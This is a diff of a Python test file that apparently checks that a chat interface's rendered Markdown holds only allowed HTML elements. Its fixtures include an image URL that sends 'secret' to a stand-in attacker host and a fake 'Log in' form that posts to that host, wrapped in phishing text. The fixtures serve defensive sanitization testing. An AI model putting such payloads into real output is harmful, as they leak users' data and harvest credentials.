@@ -19,6 +19,7 @@ IMAGE = f"![x](https://{EVIL}/a.png?q=secret)"
 LINK = f"[click](https://{EVIL}/x)"
 FORM = f'<form action="https://{EVIL}"><input name=p><button>Log in</button></form>'
 
+# ruff: noqa: E501 - an attack is read best on one line
 HOSTILE = {
     "form": FORM,
     "form in words": f"Please sign in again: {FORM} thanks.",
@@ -78,8 +79,8 @@ HOSTILE = {
     "our own marks": '<button class="rd-open" value="x/1/1">y</button> <span class="rd-x-0123456789abcdef">',
 }
 OURS = {
-    **dict.fromkeys("p h1 h2 h3 h4 h5 h6 ul li blockquote table thead tbody tr th td".split(), set[str]()),  # noqa: SIM905
-    **dict.fromkeys("strong em s code pre hr br b mark dl dt dd".split(), set[str]()),  # noqa: SIM905
+    **{name: set[str]() for name in "p h1 h2 h3 h4 h5 h6 ul li table thead tbody tr td".split()},  # noqa: SIM905
+    **{name: set[str]() for name in "strong em s code pre hr br b mark dl dt dd".split()},  # noqa: SIM905
     "ol": {"start"},
     "div": {"class", "tabindex"},
     "span": {"class", "title"},
@@ -114,7 +115,7 @@ def answer(written: str) -> Answer:
 
 @hostile
 def test_the_chat_holds_only_elements_of_ours(written: str) -> None:
-    """Also after the browser's Markdown has read it, which leaves HTML as it is and makes links of addresses."""
+    """Also after the browser's Markdown has read it."""
     browser = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])
     for shown in (
         render.model_markdown(written),
@@ -181,7 +182,8 @@ def test_an_export_keeps_what_markdown_is_for() -> None:
     )
     exported = portable.markdown(written)
     assert exported == (
-        "### A\n\n- b *c*\n\n  1. d\n\n> e `f`\n\n```\nx <- 1\n\ny\n```\n\n| g | h |\n| --- | --- |\n| 1 | 2 \\[3\\] |"
+        "### A\n\n- b *c*\n\n  1. d\n\n> e `f`\n\n```\nx <- 1\n\ny\n```\n\n"
+        "| g | h |\n| --- | --- |\n| 1 | 2 \\[3\\] |"
     )
 
 
